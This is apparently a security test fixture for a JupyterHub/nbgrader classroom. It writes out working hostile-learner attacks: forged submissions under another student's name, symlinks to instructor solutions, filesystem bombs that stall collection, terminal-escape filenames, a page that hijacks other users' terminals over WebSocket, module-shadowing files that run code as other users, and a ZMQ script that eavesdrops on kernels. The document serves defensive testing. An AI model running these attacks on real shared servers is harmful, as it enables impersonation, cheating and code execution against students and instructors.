"""What a hostile learner does to a class on the hub, for tests/test_hub.py to type or serve as
that learner: leave entries in the exchange's inbound/ for the instructor's collect, and serve a
page, from the one origin every server shares, that acts in the visitor's name."""
from __future__ import annotations

import base64
from pathlib import Path

from classroom import UNIT

LATER = "2099-01-01 00:00:00.000000 UTC"   # newer than any honest submission, so nbgrader would pick it


def inbound_attacks(exchange: Path, victim: str, solutions: Path) -> list[str]:
    """Commands for the attacker's own terminal:
    - a submission in the victim's name (nbgrader submit --student), newer than theirs;
    - an entry whose name is no time (nbgrader's collect stopped on it, for everyone);
    - the attacker's own entry holding links to the instructor's solutions and to /dev/urandom."""
    course = exchange / "attention-course"
    return [
        f"mkdir -p ~/fake && cd ~/fake && cp -r {course}/outbound/{UNIT} . "
        f"&& python -m nbgrader submit {UNIT} --student {victim}",
        f"mkdir '{course}/inbound/zz+{UNIT}+not-a-date+x'",
        f'D="{course}/inbound/$USER+{UNIT}+{LATER}+links"; mkdir "$D" && ln -s {solutions} "$D/{UNIT}.ipynb" '
        f'&& ln -s /dev/urandom "$D/data.bin" && echo "{LATER}" > "$D/timestamp.txt"',
        # in the same entry (the one collect takes, its name the newest): what stopped collect for
        # everyone after it, or held it for minutes: 600 nested folders, names past the path
        # limit, sparse files far over the size limit
        f'cd "{course}/inbound/$USER+{UNIT}+{LATER}+links" && (for i in $(seq 600); do mkdir d && cd d; done) '
        f"&& N=$(printf 'n%.0s' $(seq 250)) && (for i in $(seq 20); do mkdir $N && cd $N; done) "
        "&& for i in $(seq 40); do truncate -s 150M sparse$i.bin; done",
        # a name of terminal escapes, printed raw by collect
        f"mkdir \"{course}/inbound/$(printf '\\r\\033[2K\\033[1A\\033[8m')+{UNIT}+x+y\"",
    ]


def served_page(visitor_targets: list[tuple[str, str]], mark: str) -> str:
    """A page that, opened by someone logged in to the hub, tries to act as them: a terminal of
    each (user, terminal name) target over its WebSocket with the visitor's cookie (typing a
    command that leaves a file named `mark`-USER in /tmp), and a terminal made over the REST API.
    It writes what it achieved into `window.outcome`, every answer into `window.events`, and sets
    `window.finished`."""
    targets = ",".join(f"['{user}','{name}']" for user, name in visitor_targets)
    return f"""<!doctype html><title>my notes</title><script>
window.outcome = [], window.events = [];
const tries = [{targets}].map(([user, name]) => new Promise(done => {{
  const scheme = location.protocol === "https:" ? "wss" : "ws";
  const socket = new WebSocket(`${{scheme}}://${{location.host}}/user/${{user}}/terminals/websocket/${{name}}`);
  socket.onopen = () => {{ socket.send(JSON.stringify(["stdin", "touch /tmp/{mark}-$(whoami)\\r"]));
                          window.outcome.push(`websocket of ${{user}} opened`); setTimeout(done, 500); }};
  socket.onclose = (event) => {{ window.events.push(`websocket of ${{user}} closed: ${{event.code}}`); done(); }};
}}));
tries.push(...[{targets}].map(([user]) => fetch(`/user/${{user}}/api/terminals`, {{method: "POST"}})
  .then(answer => {{ window.events.push(`terminal of ${{user}}: ${{answer.status}}`);
                    if (answer.ok) window.outcome.push(`terminal of ${{user}} made`); }}).catch(() => null)));
Promise.all(tries).then(() => {{ window.finished = true; }});
</script>"""


def user_config_serving(page: str) -> str:
    """A learner's own ~/.jupyter/jupyter_server_config.py that makes their server answer `page` at
    /user/NAME/hello, without login."""
    return f'''import tornado.web
from jupyter_server.serverapp import ServerApp

PAGE = {page!r}


class Hello(tornado.web.RequestHandler):
    def get(self):
        self.finish(PAGE)


_init_webapp = ServerApp.init_webapp


def init_webapp(self):
    _init_webapp(self)
    self.web_app.add_handlers(".*", [(self.base_url + "hello", Hello)])


ServerApp.init_webapp = init_webapp
'''


def write_file(path: str, text: str) -> str:
    """A shell command that writes `text` to `path` (typed into a terminal in one line)."""
    encoded = base64.b64encode(text.encode()).decode()
    return f"mkdir -p $(dirname {path}) && echo {encoded} | base64 -d > {path}"


# For the Autograde refusal: the right edge of each of its lines against its box's, in Formgrader's
# error modal (a line wider than the box is cut off at its edge).
FITS = """(lines) => [...document.querySelectorAll('#error-modal pre')].flatMap(pre => {
  const text = [...pre.childNodes].find(node => node.nodeType === Node.TEXT_NODE);
  const edge = pre.getBoundingClientRect().right - parseFloat(getComputedStyle(pre).paddingRight);
  return text ? lines.filter(line => text.data.includes(line)).map(line => {
    const range = document.createRange(), at = text.data.indexOf(line);
    range.setStart(text, at); range.setEnd(text, at + line.length);
    return [line, range.getBoundingClientRect().right <= edge + 1];
  }) : [];
})"""


# A file a learner submits beside their notebook, which a kernel started in that folder would run
# as whoever started it (`python -m ipykernel_launcher` puts the working folder first on the path).
def launcher(mark: str) -> str:
    return f"import getpass\nopen({mark!r} + '-' + getpass.getuser(), 'w').close()\n"


# A learner's ~/traitlets.py: a server started in their home with `python -m` would load it first.
# It leaves a mark, then loads the real traitlets, so the server still starts.
def traitlets(mark: str) -> str:
    return f"""import getpass, importlib, os, sys
open({mark!r} + '-' + getpass.getuser(), 'w').close()
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != here]
del sys.modules['traitlets']
sys.modules['traitlets'] = importlib.import_module('traitlets')
"""


# A learner listens to every kernel of the machine they can reach: a SUB socket on every TCP port
# listening on the machine (every kernel's IOPub among them, were kernels on TCP) and on every
# socket file they can see, for `seconds`; meanwhile others run cells. A kernel of their own on TCP,
# jupyter_client's default, is the control: what it prints must be heard, or the listening proves
# nothing. Writes {"ports", "sockets", "heard"} as JSON to `out`, and `out`.ready once listening.
EAVESDROP = """import json, os, stat, sys, time
import zmq
from jupyter_client import KernelManager

seconds, out = float(sys.argv[1]), sys.argv[2]
control = KernelManager(transport="tcp")
control.start_kernel()
client = control.client()
client.start_channels()
client.wait_for_ready(timeout=120)


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        ports |= {int(row.split()[1].rsplit(":", 1)[1], 16) for row in rows if row.split()[3] == "0A"}
    return sorted(ports)


def socket_files():
    found = []
    for top in ("/tmp", "/run", "/home", "/srv", "/var/tmp", "/dev/shm", "/opt"):
        for root, folders, files in os.walk(top, onerror=lambda error: None):
            for name in folders + files:
                try:
                    if stat.S_ISSOCK(os.lstat(os.path.join(root, name)).st_mode):
                        found.append(os.path.join(root, name))
                except OSError:
                    pass
    return found


context, listeners = zmq.Context(), []
ports, files = listening_ports(), socket_files()
for address in [f"tcp://127.0.0.1:{port}" for port in ports] + [f"ipc://{path}" for path in files]:
    listener = context.socket(zmq.SUB)
    listener.setsockopt(zmq.LINGER, 0)
    listener.setsockopt(zmq.RECONNECT_IVL, -1)   # one try a port: a web server's port is not flooded
    listener.setsockopt(zmq.SUBSCRIBE, b"")
    listener.connect(address)
    listeners.append(listener)
poller = zmq.Poller()
for listener in listeners:
    poller.register(listener, zmq.POLLIN)
time.sleep(1)
open(out + ".ready", "w").close()
client.execute("print('CONTROL-' + 'HEARD')")
heard, deadline = [], time.time() + seconds
while time.time() < deadline:
    for listener, _ in poller.poll(200):
        heard.append(b" ".join(listener.recv_multipart()).decode(errors="replace"))
control.shutdown_kernel(now=True)
json.dump({"ports": len(ports), "sockets": len(files), "heard": heard}, open(out, "w"))
"""
